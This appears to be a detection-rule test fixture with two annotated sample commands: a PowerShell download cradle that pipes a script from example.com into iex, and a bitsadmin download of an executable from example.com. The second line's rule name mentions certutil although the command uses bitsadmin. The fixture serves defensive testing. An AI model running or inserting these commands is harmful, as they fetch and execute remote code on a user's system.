# ruleid: yara.download_exec.powershell_download_cradle
iwr -UseBasicParsing https://example.com/a.ps1 | iex

# ruleid: yara.download_exec.certutil_urlcache
bitsadmin /transfer job /download /priority high https://example.com/a.exe C:\Temp\a.exe
